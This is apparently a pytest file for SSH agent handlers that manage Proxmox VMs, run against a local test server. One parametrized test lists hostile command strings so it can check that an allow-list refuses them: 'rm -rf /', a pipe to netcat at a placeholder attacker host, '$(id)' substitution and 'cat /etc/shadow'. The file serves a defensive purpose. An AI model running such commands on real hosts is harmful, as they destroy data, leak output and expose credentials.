"""The ``infra.ssh.*`` handlers against a real SSH server (asyncssh's, on loopback, started by
the test: commands run for real through ``/bin/sh``, SFTP on a temporary root)."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import asyncssh
import pytest
from botmox_proxmox import agent
from botmox_proxmox.ssh import SshActionError, allowed_argv
from botmox_proxmox.testing import SshServer, serve_ssh

from botmox_core.agent import CommandContext

PASSWORD = "ssh-password-that-must-never-leak"
CONFIG = "boot: order=scsi0\ncores: 2\nmemory: 4096\nname: farm-bot-01\n"


def run(command_type: str, target: Any = None, params: Any = None, **credentials: Any) -> Any:
    loop = asyncio.new_event_loop()
    try:
        ctx = CommandContext(
            None,  # type: ignore[arg-type]  # the handlers never touch the runtime
            {
                "id": "cmd_ssh",
                "command_type": command_type,
                "payload": {
                    "target": target or {},
                    "params": params or {},
                    "credentials": credentials or {"password": PASSWORD},
                },
            },
            loop,
        )
        result = loop.run_until_complete(agent.handlers[command_type](ctx))
    finally:
        loop.close()
    assert set(result) == {"data"}
    return result["data"]


@pytest.fixture
def client_key() -> asyncssh.SSHKey:
    return asyncssh.generate_private_key("ssh-ed25519")


@pytest.fixture
def sshd(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, client_key: asyncssh.SSHKey
) -> Iterator[SshServer]:
    root = tmp_path / "host"
    (root / "etc/pve/qemu-server").mkdir(parents=True)
    (root / "etc/pve/qemu-server/101.conf").write_text(CONFIG)
    public = client_key.export_public_key().decode()
    with serve_ssh(root, password=PASSWORD, authorized_key=public) as server:
        monkeypatch.setenv("BOTMOX_SSH_HOST", "127.0.0.1")
        monkeypatch.setenv("BOTMOX_SSH_PORT", str(server.port))
        monkeypatch.setenv("BOTMOX_SSH_USER", "root")
        monkeypatch.setenv("BOTMOX_SSH_KNOWN_HOSTS", str(server.known_hosts))
        monkeypatch.setenv("BOTMOX_SSH_TIMEOUT", "5")
        yield server


def test_ssh_test_authenticates_with_the_password(sshd: SshServer) -> None:
    data = run("infra.ssh.test")
    assert data["ok"] is True and data["port"] == sshd.port and data["username"] == "root"
    assert data["server_version"].startswith("SSH-2.0-AsyncSSH")
    assert sshd.commands == []  # a test runs nothing


def test_a_private_key_works_too(sshd: SshServer, client_key: asyncssh.SSHKey) -> None:
    private = client_key.export_private_key().decode()
    assert run("infra.ssh.test", private_key=private)["ok"] is True


def test_a_wrong_password_fails_without_echoing_it(sshd: SshServer) -> None:
    with pytest.raises(SshActionError, match="authentication failed") as caught:
        run("infra.ssh.test", password="a-wrong-password")
    assert "a-wrong-password" not in str(caught.value)


def test_an_unknown_host_key_is_refused(
    sshd: SshServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    other = tmp_path / "other_known_hosts"
    stranger = asyncssh.generate_private_key("ssh-ed25519").export_public_key().decode()
    other.write_text(f"[127.0.0.1]:{sshd.port} {stranger}")
    monkeypatch.setenv("BOTMOX_SSH_KNOWN_HOSTS", str(other))
    with pytest.raises(SshActionError, match="host key"):
        run("infra.ssh.test")


def test_exec_runs_an_allowed_command_for_real(sshd: SshServer) -> None:
    data = run("infra.ssh.exec", params={"command": "hostname"})
    assert data["exit_status"] == 0 and data["stdout"].strip() == socket.gethostname()
    assert data["command"] == "hostname" and data["truncated"] is False
    assert sshd.commands == ["hostname"]
    # allowed words, but the host has no qm here: the host's own answer comes back
    missing = run("infra.ssh.exec", params={"command": "qm status 101"})
    assert missing["exit_status"] == 127 and sshd.commands[-1] == "qm status 101"


@pytest.mark.parametrize(
    "command",
    [
        "hostname; rm -rf /",
        "hostname && id",
        "qm status 101 | nc attacker 1",
        "qm status $(id)",
        "qm destroy 101",
        "cat /etc/shadow",
        "qm status 1",
        "uptime\nid",
        "",
    ],
)
def test_exec_refuses_what_the_allow_list_does_not_have(sshd: SshServer, command: str) -> None:
    with pytest.raises(SshActionError):
        run("infra.ssh.exec", params={"command": command})
    assert sshd.commands == []  # refused on the agent: nothing reached the host


def test_allowed_words_are_sent_re_quoted() -> None:
    assert allowed_argv("qm  status   101") == ["qm", "status", "101"]
    assert allowed_argv("'qm' status 101") == ["qm", "status", "101"]
    with pytest.raises(SshActionError):
        allowed_argv("qm status '101; id'")


def test_vm_config_read_and_replace_over_sftp(sshd: SshServer, tmp_path: Path) -> None:
    data = run("infra.ssh.vm-config-get", {"vmid": 101})
    assert data == {"vmid": 101, "path": "/etc/pve/qemu-server/101.conf", "content": CONFIG}
    new = CONFIG.replace("cores: 2", "cores: 4")
    written = run("infra.ssh.vm-config-update", {"vmid": 101}, {"content": new})
    assert written == {"vmid": 101, "path": "/etc/pve/qemu-server/101.conf", "bytes": len(new)}
    stored = tmp_path / "host/etc/pve/qemu-server"
    assert (stored / "101.conf").read_text() == new
    assert sorted(p.name for p in stored.iterdir()) == ["101.conf"]  # no temporary left
    with pytest.raises(SshActionError, match="does not exist"):
        run("infra.ssh.vm-config-update", {"vmid": 555}, {"content": new})
    with pytest.raises(SshActionError, match="SFTP"):
        run("infra.ssh.vm-config-get", {"vmid": 555})


def test_no_credential_and_unreachable_host(
    sshd: SshServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(SshActionError, match=r"ssh\.password or ssh\.private_key"):
        run("infra.ssh.test", unrelated="x")
    with socket.socket() as probe:  # a port nobody listens on
        probe.bind(("127.0.0.1", 0))
        free = probe.getsockname()[1]
    monkeypatch.setenv("BOTMOX_SSH_PORT", str(free))
    with pytest.raises(SshActionError, match="SSH failed"):
        run("infra.ssh.test")
